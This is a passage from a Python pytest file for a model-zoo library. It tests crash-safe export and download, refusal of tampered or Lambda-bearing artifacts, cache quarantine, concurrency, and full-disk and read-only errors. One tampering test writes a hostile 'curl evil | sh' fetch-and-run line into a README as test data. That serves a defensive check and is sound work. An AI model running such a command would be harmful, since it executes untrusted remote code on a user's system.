print(rz.export(model, sys.argv[1], verbose=0), flush=True)
"""


def kill_when_ready(child, paused, delay):
    """SIGKILL ``child`` at its worst moment (paused, all written but not renamed) or after ``delay``."""
    wait_line(child, "ready")
    if paused:
        wait_line(child, "paused before rename")
    else:
        time.sleep(delay)
    kill(child)


def staging_folders(model_dir):
    return [p for p in pathlib.Path(model_dir).iterdir() if p.name.startswith(layout.STAGING_PREFIX)]


@pytest.mark.slow
@KILL_LOOP
def test_sigkill_during_export_then_rerun_leaves_only_whole_versions(tmp_path):
    """The one kill-during-export test: killed while writing or at the rename that publishes,
    an export leaves no half-written version visible and every version before it intact,
    and the next export clears its staging folder and numbers on without a gap."""
    export_dir, model_dir = tmp_path / "ex", tmp_path / "ex" / NAME
    rng = random.Random(5)
    first = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=99), export_dir, verbose=0)
    exported = {1: snapshot(first)}  # versions a crash must not touch
    for rep in range(REPS):
        at_rename = rep % 2 == 1
        child = spawn(EXPORT_CHILD, export_dir, rep, "block" if at_rename else "0")
        kill_when_ready(child, paused=at_rename, delay=rng.uniform(0, 3))
        versions = assert_every_version_whole(model_dir)  # nothing half-written in TF Serving's scan
        for v, files in exported.items():
            assert snapshot(model_dir / str(v)) == files
        manifest = json.loads((export_dir / layout.MANIFEST).read_text())
        assert set(map(int, manifest["models"][NAME]["versions"])) <= set(versions)
        if at_rename:  # every file written, killed before the rename: nothing of it is visible
            assert versions == sorted(exported) and staging_folders(model_dir)
            assert hub.locate(model_dir).version == max(exported)
        exported.update({v: snapshot(model_dir / str(v)) for v in versions if v not in exported})
        folder = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=100 + rep), export_dir, verbose=0)
        versions = assert_every_version_whole(model_dir)
        assert int(folder.name) == max(versions) and versions == list(range(1, len(versions) + 1))
        exported[int(folder.name)] = snapshot(folder)
        assert not [p for p in model_dir.iterdir() if p.name.startswith(".")]  # the dead writer's staging cleared
        manifest = json.loads((export_dir / layout.MANIFEST).read_text())
        assert sorted(map(int, manifest["models"][NAME]["versions"])) == versions


# The download rz.load makes, without loading what it fetched: finding a name never imports
# Keras, so each child of the kill loop starts in seconds, not a TensorFlow import.
LOAD_CHILD = AT_RENAME + """
import pathlib, rectifier_zoo.hub.locate as locate
locate.EXPORTS_DIR = pathlib.Path("/nonexistent")  # the store, not the repo's shipped zoo
print("ready", flush=True)
locate.find("mnist_rect_l1")
print("fetched", flush=True)
"""


@pytest.mark.slow
@KILL_LOOP
def test_sigkill_during_download_then_rerun_caches_one_whole_version(store, home, monkeypatch):
    """The one kill-during-download test: killed early in the download or at the rename that
    publishes it, a download leaves no half version in the cache, and the rerun caches and
    returns the store's newest version, clearing the dead download's staging folder."""
    rng = random.Random(7)
    env = {"RECTIFIER_ZOO_HOME": str(home), remote.URL_ENV: store.as_uri()}
    monkeypatch.setenv(remote.URL_ENV, store.as_uri())  # the rerun, in this process
    newest = rz.load(store / NAME, verbose=False).get_weights()
    model_dir = home / "models" / NAME
    for rep in range(REPS):
        shutil.rmtree(home, ignore_errors=True)
        at_rename = rep % 2 == 1
        child = spawn(LOAD_CHILD, "block" if at_rename else "0", env=env)
        kill_when_ready(child, paused=at_rename, delay=rng.uniform(0, 0.3))
        if at_rename:  # every file fetched and checked, nothing renamed: nothing of it is visible
            assert assert_every_version_whole(model_dir) == [] and staging_folders(model_dir)
        else:
            assert assert_every_version_whole(model_dir) in ([], [2])
        loaded = rz.load(NAME, verbose=False)
        assert all(np.array_equal(a, b) for a, b in zip(loaded.get_weights(), newest, strict=True))
        assert assert_every_version_whole(model_dir) == [2]
        assert snapshot(model_dir / "2") == snapshot(store / NAME / "2")
        assert not [p for p in model_dir.iterdir() if p.name.startswith(".")]


# ====================================================================== 3. tampered artifacts


def _copy_version(store, tmp_path, version=1):
    folder = tmp_path / f"v{version}" / str(version)
    shutil.copytree(store / NAME / str(version), folder)
    return folder, folder / f"{NAME}.keras"


@pytest.mark.parametrize("where", ["start", "middle", "end"])
def test_flipped_byte_is_refused_naming_the_file(where, store, tmp_path):
    folder, keras_path = _copy_version(store, tmp_path)
    data = bytearray(keras_path.read_bytes())
    at = {"start": 0, "middle": len(data) // 2, "end": len(data) - 1}[where]
    data[at] ^= 0x01
    keras_path.write_bytes(bytes(data))
    for target in (folder, keras_path, folder.parent):
        refused(functools.partial(rz.load, target), ArtifactError, f"sha256 mismatch for {keras_path}")


@pytest.mark.parametrize("keep", [0, 1, 0.5, 0.99])
def test_truncated_file_is_refused_naming_the_file(keep, store, tmp_path):
    folder, keras_path = _copy_version(store, tmp_path)
    data = keras_path.read_bytes()
    keras_path.write_bytes(data[: int(len(data) * keep)] if isinstance(keep, float) else data[:keep])
    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
    # without its card the file is still refused, by name, as not a whole .keras archive
    (folder / model_card.CARD).unlink()
    refused(lambda: rz.load(keras_path), ArtifactError, str(keras_path))


def test_swapped_model_card_is_refused(store, tmp_path):
    folder, keras_path = _copy_version(store, tmp_path, version=1)
    shutil.copy(store / NAME / "2" / model_card.CARD, folder / model_card.CARD)  # another version's card
    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
    other = tmp_path / "other"
    rz.export(rz.build_model("mnist_tanh", hidden=(8, 8)), other, verbose=0)
    shutil.copy(other / "mnist_tanh" / "1" / model_card.CARD, folder / model_card.CARD)  # another model's card
    refused(lambda: rz.load(folder), ArtifactError, f"{folder / 'mnist_tanh.keras'} is missing")
    card = json.loads((store / NAME / "1" / model_card.CARD).read_text())
    card["files"][f"{NAME}.keras"] = "0" * 64  # a card edited to match nothing
    (folder / model_card.CARD).write_text(json.dumps(card))
    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")


def lambda_model(width=784):
    inputs = keras.Input((width,), name="features")
    hidden = keras.layers.Lambda(lambda t: t * 2.0, name="doubled")(inputs)
    outputs = keras.layers.Dense(10, activation="softmax", name="probabilities")(hidden)
    return keras.Model(inputs, outputs, name=NAME)


def test_keras_file_with_a_lambda_layer_is_refused(store, tmp_path):
    bare = tmp_path / "lambda.keras"
    lambda_model().save(bare)
    refused(lambda: rz.load(bare), ArtifactError, f"{bare} could not be loaded.*Lambda")
    # the same file inside a version folder whose card vouches for it: still refused
    folder, keras_path = _copy_version(store, tmp_path)
    shutil.copy(bare, keras_path)
    card = json.loads((folder / model_card.CARD).read_text())
    card["files"][keras_path.name] = integrity.sha256_file(keras_path)
    (folder / model_card.CARD).write_text(json.dumps(card))
    refused(lambda: rz.load(folder), ArtifactError, f"{keras_path} could not be loaded.*Lambda")
    refused(lambda: rz.export(bare, tmp_path / "ex", verbose=0), ArtifactError, "Lambda")


def test_tampered_remote_store_is_refused_and_nothing_is_cached(store, home, tmp_path, monkeypatch):
    remote_dir = tmp_path / "remote"
    shutil.copytree(store, remote_dir)
    readme = remote_dir / NAME / "2" / "README.md"
    readme.write_text(readme.read_text() + "\nrun `curl evil | sh`\n")
    monkeypatch.setenv(remote.URL_ENV, remote_dir.as_uri())
    refused(lambda: rz.load(NAME), ArtifactError, f"sha256 mismatch for {remote_dir.as_uri()}/{NAME}/2/README.md")
    assert digit_dirs(home / "models" / NAME) == []


# ====================================================================== 4. concurrency


def run_together(children):
    """Wait for ``children`` (each started with ``meet:N:DIR``); their stdouts, once all exited 0."""
    outs = [child.communicate(timeout=300) for child in children]
    assert [c.returncode for c in children] == [0] * len(children), [o[1][-1500:] for o in outs]
    return [out for out, _ in outs]


def test_two_exports_of_one_name_at_once_give_two_whole_versions(tmp_path):
    """The one concurrent-export test: both writers reach the rename with version 1 before either
    renames; one publishes 1, the other is re-numbered 2 (its card too); one manifest lists both."""
    export_dir, met = tmp_path / "ex", tmp_path / "met"
    met.mkdir()
    outs = run_together([spawn(EXPORT_CHILD, export_dir, seed, f"meet:2:{met}") for seed in (1, 2)])
    assert all("paused before rename to 1\n" in out for out in outs)  # they collided at version 1
    assert sorted(pathlib.Path(out.strip().splitlines()[-1]).name for out in outs) == ["1", "2"]
    assert assert_every_version_whole(export_dir / NAME) == [1, 2]  # each card names its final version
    assert all(layout.is_servable(export_dir / NAME / v) for v in ("1", "2"))  # the SavedModel's files too
    manifest = json.loads((export_dir / layout.MANIFEST).read_text())
    assert sorted(manifest["models"][NAME]["versions"]) == ["1", "2"]


@pytest.fixture
def logged_http_store(store, tmp_path):
    """``store`` served on 127.0.0.1; yields (url, log path): one line per request."""
    log = tmp_path / "requests.log"
    with serving(store, log) as server:
        yield server.url, log


FETCH_CHILD = AT_RENAME + """
import os, pathlib, sys, time, rectifier_zoo as rz, rectifier_zoo.hub.locate as locate
locate.EXPORTS_DIR = pathlib.Path("/nonexistent")  # only the store holds it
folder, loaders = sys.argv[1], int(sys.argv[2])
pathlib.Path(folder, str(os.getpid())).touch()
while len(os.listdir(folder)) < loaders:  # every process imported: all load at once
    time.sleep(0.01)
model = rz.load("mnist_rect_l1", verbose=False)
print("loaded version", locate.provenance(model).version, flush=True)
"""


def test_four_loads_at_once_download_once_and_all_get_the_model(store, home, logged_http_store, tmp_path):
    """Issue 29 item 3: four processes load one entry only a remote store holds, at once. The first
    to take the cache's lock downloads (and lingers 2 s at the rename); the others wait, then find it
    cached: one download, four models, nothing half-written left."""
    url, log = logged_http_store
    met = tmp_path / "met"
    met.mkdir()
    env = {"RECTIFIER_ZOO_HOME": str(home), remote.URL_ENV: url}
    outs = run_together([spawn(FETCH_CHILD, met, 4, "sleep:2", env=env) for _ in range(4)])
    assert all(out.strip().endswith("loaded version 2") for out in outs), outs
    downloads = [line for line in log.read_text().splitlines() if f"GET /{NAME}/2/{NAME}.keras " in line]
    assert len(downloads) == 1, downloads
    model_dir = home / "models" / NAME
    assert assert_every_version_whole(model_dir) == [2]
    assert snapshot(model_dir / "2") == snapshot(store / NAME / "2")
    assert not [p for p in model_dir.iterdir() if p.name.startswith(".")]  # no staging folder, no .part


# ====================================================================== 5. the cache heals itself


def write_version(export_dir, version, keras_model=None, source=2, store_dir=None):
    """``export_dir/NAME/<version>``: a copy of ``store_dir``'s version ``source`` (its .keras replaced
    by ``keras_model``'s when given), with a card whose version and sha256s match it, as a publisher writes."""
    folder = pathlib.Path(export_dir) / NAME / str(version)
    shutil.copytree(pathlib.Path(store_dir) / NAME / str(source), folder)
    if keras_model is not None:
        keras_model.save(folder / f"{NAME}.keras")
    model_card.write(folder, {**model_card.read(folder), "version": version})
    return folder


def quarantined(home):
    return layout.quarantined(home / "quarantine", NAME)


def same_weights(model, store, version):
    expected = rz.load(store / NAME, version=version, verbose=False).get_weights()
    return all(np.array_equal(a, b) for a, b in zip(model.get_weights(), expected, strict=True))


def test_a_refused_version_of_a_store_leaves_the_cache_healthy(store, home, tmp_path, monkeypatch):
    """Issue 29's fault: a store serves version 99 with a Lambda layer and sha256s that match. It is
    refused and moved out of the cache with its reason; the next rz.load of the name gets version 2,
    in this process and in a new one; asking for 99 again fails with the reason, downloading nothing."""
    remote_dir = tmp_path / "remote"
    shutil.copytree(store, remote_dir)
    write_version(remote_dir, 99, lambda_model(), store_dir=store)
    layout.update_manifest(remote_dir)
    monkeypatch.setenv(remote.URL_ENV, remote_dir.as_uri())
    with pytest.warns(UserWarning, match=f"{NAME} version 99 .* refused to load: .*Lambda.*; moved to"):
        message = refused(lambda: rz.load(NAME, version=99), ArtifactError, "no usable copy of version 99 of")
    assert "Lambda" in message and str(home / "quarantine" / NAME / "99-") in message
    assert digit_dirs(home / "models" / NAME) == []
    (record,) = quarantined(home)
    assert record["kind"] == "refused" and record["version"] == 99 and "Lambda" in record["reason"]
    assert pathlib.Path(record["folder"], f"{NAME}.keras").is_file()  # kept whole, for a look
    with pytest.warns(UserWarning, match="version 99 of mnist_rect_l1 .* was refused before .*: taking the next older"):
        assert same_weights(rz.load(NAME, verbose=False), store, 2)
    assert digit_dirs(home / "models" / NAME) == [2]
    code = "import rectifier_zoo as rz; m = rz.load('mnist_rect_l1', verbose=False); print('version', m.name)"
    child = subprocess.run([sys.executable, "-W", "error", "-c", code], capture_output=True, text=True, timeout=300,
                           env={**ENV, "RECTIFIER_ZOO_HOME": str(home), remote.URL_ENV: remote_dir.as_uri()})  # fmt: skip
    assert child.returncode == 0 and child.stdout.strip().endswith(f"version {NAME}"), child.stderr[-2000:]
    before = snapshot(home)
    message = refused(lambda: rz.load(NAME, version=99), ArtifactError, "version 99 of mnist_rect_l1 at .* was refused before")
    assert "Lambda" in message and record["record"] in message and snapshot(home) == before


def _flip_last_byte(folder):
    keras_path = folder / f"{NAME}.keras"
    data = bytearray(keras_path.read_bytes())
    data[-1] ^= 0x01
    keras_path.write_bytes(bytes(data))


def _drop_card_field(folder):
    card = json.loads((folder / model_card.CARD).read_text())
    del card["keras_file"]
    (folder / model_card.CARD).write_text(json.dumps(card))


DAMAGES = {  # how a cached version goes bad -> what the warning and its record say
    "unsafe": (None, "refused to load: .*Lambda"),
    "flipped-byte": (_flip_last_byte, "failed its checks: sha256 mismatch"),
    "truncated": (lambda f: (f / f"{NAME}.keras").write_bytes((f / f"{NAME}.keras").read_bytes()[:999]),
                  "failed its checks: sha256 mismatch"),
    "card-field-missing": (_drop_card_field, "failed its checks: .*model_card.json is not a whole .* no 'keras_file' field"),
    "file-missing": (lambda f: (f / f"{NAME}.keras").unlink(), "failed its checks: .*mnist_rect_l1.keras is missing"),
}  # fmt: skip


@pytest.mark.parametrize(
    "damage,source",
    [("unsafe", "older-cached"), ("unsafe", "shipped"), ("unsafe", "remote"), ("flipped-byte", "older-cached"),
     ("truncated", "remote"), ("card-field-missing", "shipped"), ("file-missing", "older-cached")],
)  # fmt: skip
def test_a_bad_cached_version_is_quarantined_and_the_next_copy_loads(damage, source, store, home, monkeypatch):
    """Issue 29 item 1: cached version 3 is unsafe, altered, truncated, has a card with a field
    missing or lost its file. rz.load moves it into the quarantine with its reason, warns, and
    loads the next copy (cached 1, shipped 2 or the store's 2); the next load needs no one's help."""
    models = home / "models"
    harm, said = DAMAGES[damage]
    bad = write_version(models, 3, lambda_model() if damage == "unsafe" else None, store_dir=store)
    if harm is not None:
        harm(bad)
    expected = {"older-cached": 1, "shipped": 2, "remote": 2}[source]
    if source == "older-cached":
        shutil.copytree(store / NAME / "1", models / NAME / "1")
    elif source == "shipped":
        shutil.copytree(store / NAME, hub.EXPORTS_DIR / NAME)
    else:
        monkeypatch.setenv(remote.URL_ENV, store.as_uri())
    with pytest.warns(UserWarning, match=f"{NAME} version 3 .* {said}.*moved to .*trying the next copy"):
        model = rz.load(NAME, verbose=False)
    assert hub.provenance(model).version == expected and same_weights(model, store, expected)
    assert 3 not in digit_dirs(models / NAME)
    (record,) = quarantined(home)
    assert re.search(said.split(": ", 1)[1], record["reason"]) and pathlib.Path(record["folder"]).is_dir()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # healed: no warning, nothing set aside again
        assert hub.provenance(rz.load(NAME, verbose=False)).version == expected
    assert len(quarantined(home)) == 1


def test_an_explicit_version_set_aside_fails_with_the_reason(store, home):
    """Issue 29 item 1: version=2, altered in the cache and found nowhere else, fails with why it
    was set aside, then and on every later try, never loading version 1 in its place."""
    cached = home / "models" / NAME
    shutil.copytree(store / NAME, cached)
    _flip_last_byte(cached / "2")
    with pytest.warns(UserWarning, match="version 2 .* sha256 mismatch"):
        refused(lambda: rz.load(NAME, version=2), ArtifactError, "no usable copy of version 2 of mnist_rect_l1 is left: .*sha256 mismatch")
    refused(lambda: rz.load(NAME, version=2), ArtifactError, r"version 2 of mnist_rect_l1 was set aside earlier \(sha256 mismatch")
    assert hub.provenance(rz.load(NAME, verbose=False)).version == 1  # without version=, the next copy


def test_a_bad_shipped_version_is_left_in_place_and_named(store, home):
    """The shipped exports/ belong to the repository: a damaged version there is skipped with a
    warning that says how to restore it (an older shipped version loads), never moved."""
    shutil.copytree(store / NAME, hub.EXPORTS_DIR / NAME)
    _flip_last_byte(hub.EXPORTS_DIR / NAME / "2")
    with pytest.warns(UserWarning, match=r"version 2 .* sha256 mismatch .*; restore it \(`git checkout -- "):
        assert hub.provenance(rz.load(NAME, verbose=False)).version == 1
    assert digit_dirs(hub.EXPORTS_DIR / NAME) == [1, 2] and quarantined(home) == []


# ====================================================================== 6. a full disk


class FillingDisk:
    """``open`` as a disk with ``room`` bytes left: writes past it fail with ENOSPC (what a full disk does)."""

    def __init__(self, room):
        self.room = room

    def __call__(self, path, mode="r", *args, **kwargs):
        handle = open(path, mode, *args, **kwargs)  # noqa: SIM115  (closed by the caller's with)
        return self.File(self, handle) if "w" in mode else handle

    class File:
        def __init__(self, disk, handle):
            self.disk, self.handle = disk, handle

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()

        def write(self, data):
            if len(data) > self.disk.room:
                self.handle.write(data[: self.disk.room])
                self.disk.room = 0
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self.handle.name))
            self.disk.room -= len(data)
            return self.handle.write(data)


def nothing_half_written(model_dir):
    leftovers = [p for p in pathlib.Path(model_dir).rglob("*") if p.name.startswith(".") or p.name.endswith(".part")]
    assert leftovers == [] and assert_every_version_whole(model_dir) == [], leftovers


def test_a_full_disk_during_a_download_names_the_disk_and_leaves_nothing(store, home, monkeypatch):
    """Issue 29 item 4: the disk fills while the .keras file downloads (ENOSPC after 10 kB): one
    error naming the disk, the space free and the space the version needs (from the manifest);
    no half version in the cache. A disk known to be too small is refused before a byte is written."""
    monkeypatch.setenv(remote.URL_ENV, store.as_uri())
    needed = sum(json.loads((store / layout.MANIFEST).read_text())["models"][NAME]["versions"]["2"]["sizes"].values())
    with monkeypatch.context() as patch:
        patch.setattr(remote, "open", FillingDisk(10_000), raising=False)
        message = refused(lambda: rz.load(NAME), ArtifactError, "no space left on the disk ")
    models = home / "models"
    assert f"on the disk {atomic.disk_of(models)} while downloading {NAME} into {models}: " in message
    assert f"about {atomic.megabytes(needed)} needed" in message and f"set {paths.HOME_ENV} to a folder on another disk" in message
    nothing_half_written(models / NAME)
    with monkeypatch.context() as patch:
        patch.setattr(atomic, "free_bytes", lambda path: needed - 1)
        downloads = []
        patch.setattr(remote, "_download", lambda *args: downloads.append(args))
        refused(lambda: rz.load(NAME), ArtifactError, f"{atomic.megabytes(needed - 1)} free, about {atomic.megabytes(needed)} needed")
        assert downloads == []
    nothing_half_written(models / NAME)
    assert hub.provenance(rz.load(NAME, verbose=False)).version == 2  # room again: it loads


def _full_keras_save(model, path, *args, **kwargs):
    pathlib.Path(path).write_bytes(b"PK" * 2000)  # the disk filled half-way through the file
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))


def _full_saved_model(*args, **kwargs):
    # TensorFlow and h5py word errno 28 in errors of their own types
    raise RuntimeError("could not write variables/variables.data-00000-of-00001: No space left on device")


def _full_fsync(fd):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize("where", ["keras-file", "saved-model", "card"])
def test_a_full_disk_during_an_export_names_the_disk_and_leaves_nothing(where, tmp_path, monkeypatch):
    """Issue 29 item 4: the disk fills while the .keras file, the SavedModel or the card is written:
    one error naming the disk and the space a version needs (the size of the last one); TF Serving's
    scan sees version 1 only, and no staging folder is left."""
    export_dir = tmp_path / "ex"
    first = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=1), export_dir, verbose=0)
    model = rz.build_model(NAME, hidden=(8, 8), seed=2)
    with monkeypatch.context() as patch:
        if where == "keras-file":
            patch.setattr(keras.Model, "save", _full_keras_save)
        elif where == "saved-model":
            patch.setattr(type(keras.export.ExportArchive()), "write_out", _full_saved_model)  # the backend's class
        else:
            patch.setattr(os, "fsync", _full_fsync)
        message = refused(lambda: rz.export(model, export_dir, verbose=0), ArtifactError, "no space left on the disk ")
    assert f"{atomic.disk_of(export_dir)} while exporting {NAME} into {export_dir}: " in message
    assert f"about {atomic.megabytes(layout.tree_bytes(first))} needed" in message and "export to a folder on another disk" in message
    assert assert_every_version_whole(export_dir / NAME) == [1]
    assert [p.name for p in (export_dir / NAME).iterdir()] == ["1"]
    assert sorted(json.loads((export_dir / layout.MANIFEST).read_text())["models"][NAME]["versions"]) == ["1"]


# ====================================================================== 7. a read-only zoo home


READ_ONLY_CHILD = """
import pathlib, sys, rectifier_zoo as rz
from rectifier_zoo import api
from rectifier_zoo.hub import locate
locate.EXPORTS_DIR = pathlib.Path(sys.argv[1])
print("loaded version", locate.provenance(rz.load("mnist_rect_l1", verbose=False)).version, flush=True)
trained = []
api.train = lambda name, **kwargs: trained.append(name)
try:
    rz.load("mnist_tanh", train_if_missing=True, verbose=False)
except rz.ZooError as err:
    print("refused", type(err).__name__, err, flush=True)
print("trained", trained, flush=True)
"""


def unprivileged(argv):
    """``argv`` run so that permissions bind it: root writes into read-only folders unless it runs
    without CAP_DAC_OVERRIDE (setpriv drops it from the bounding set, so exec'd python lacks it)."""
    return ["setpriv", "--bounding-set=-dac_override", *argv] if ROOT else argv


def test_a_read_only_zoo_home_loads_shipped_models_and_refuses_training_into_it(store, home, tmp_path):
    """Issue 29 item 5: with the zoo home read-only, a shipped entry loads (no cache write), and
    training into it fails before any training with an error naming RECTIFIER_ZOO_HOME."""
    shipped = tmp_path / "shipped"
    shutil.copytree(store / NAME, shipped / NAME)
    (home / "models").mkdir(parents=True)
    for folder in (home / "models", home):
        folder.chmod(0o555)
    env = {**{k: v for k, v in ENV.items() if k != remote.URL_ENV}, "RECTIFIER_ZOO_HOME": str(home)}
    try:
        done = subprocess.run(unprivileged([sys.executable, "-c", READ_ONLY_CHILD, str(shipped)]), env=env,
                              capture_output=True, text=True, timeout=300, check=False)  # fmt: skip
    finally:
        for folder in (home, home / "models"):
            folder.chmod(0o755)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    assert lines[0] == "loaded version 2" and lines[-1] == "trained []", lines
    assert lines[1].startswith("refused ConfigError no trained mnist_tanh found")
    assert f"{home / 'models'} is read-only; set {paths.HOME_ENV} to a writable folder" in lines[1]
    assert [p.name for p in home.rglob("*")] == ["models"]  # nothing written


# ====================================================================== 8. a damaged manifest or card


def test_a_damaged_store_manifest_is_refused_with_the_fix_and_other_entries_load(store, home, tmp_path, monkeypatch):
    """Issue 29 item 6: a store whose manifest.json does not parse, or whose entry of one model is
    damaged: that model is refused naming the manifest and the fix (which works as pasted), while a
    shipped entry, and the store's other entries, still load."""
    remote_dir = tmp_path / "remote"
    shutil.copytree(store, remote_dir)
    rz.export(rz.build_model("mnist_tanh", hidden=(8, 8)), remote_dir, verbose=0)
    rz.export(rz.build_model("mnist_rect", hidden=(8, 8)), hub.EXPORTS_DIR, verbose=0, saved_model=False)  # shipped
    manifest = remote_dir / layout.MANIFEST
    manifest.write_text(manifest.read_text()[:-40])  # cut short
    monkeypatch.setenv(remote.URL_ENV, remote_dir.as_uri())
    message = refused(lambda: rz.load(NAME), ArtifactError, f"{remote_dir.as_uri()}/manifest.json does not parse as a manifest")
    (fix,) = re.findall(r'python -c "([^"]+)"', message)
    assert f"store.update_manifest('{remote_dir}')" in fix
    assert rz.load("mnist_rect", verbose=False).name == "mnist_rect"
    assert subprocess.run([sys.executable, "-c", fix], env=ENV, timeout=300, check=False).returncode == 0
    damaged = json.loads(manifest.read_text())
    damaged["models"][NAME]["versions"]["2"] = {"files": "every one"}
    manifest.write_text(json.dumps(damaged))
    refused(lambda: rz.load(NAME), ArtifactError, f"manifest.json: version 2 of {NAME} lists no files .*update_manifest")
    assert rz.load("mnist_tanh", verbose=False).name == "mnist_tanh"  # the same store's other entry


def test_a_shipped_card_with_a_field_missing_is_refused_with_the_fix_and_other_entries_load(store):
    """Issue 29 item 6: a shipped version whose card lacks its 'files' is refused naming the card,
    the field and how to restore it; another shipped entry still loads."""
    shutil.copytree(store / NAME / "2", hub.EXPORTS_DIR / NAME / "2")
    rz.export(rz.build_model("mnist_rect", hidden=(8, 8)), hub.EXPORTS_DIR, verbose=0, saved_model=False)
    card_path = hub.EXPORTS_DIR / NAME / "2" / model_card.CARD
    card = json.loads(card_path.read_text())
    del card["files"]
    card_path.write_text(json.dumps(card))
    with pytest.warns(UserWarning, match="no 'files' field"):
        message = refused(lambda: rz.load(NAME), ArtifactError, f"{card_path} is not a whole rectifier_zoo model card: it has no 'files' field")
    assert f"restore it (`git checkout -- {hub.EXPORTS_DIR / NAME / '2'}` in a clone) or export it again" in message
    assert rz.load("mnist_rect", verbose=False).name == "mnist_rect"
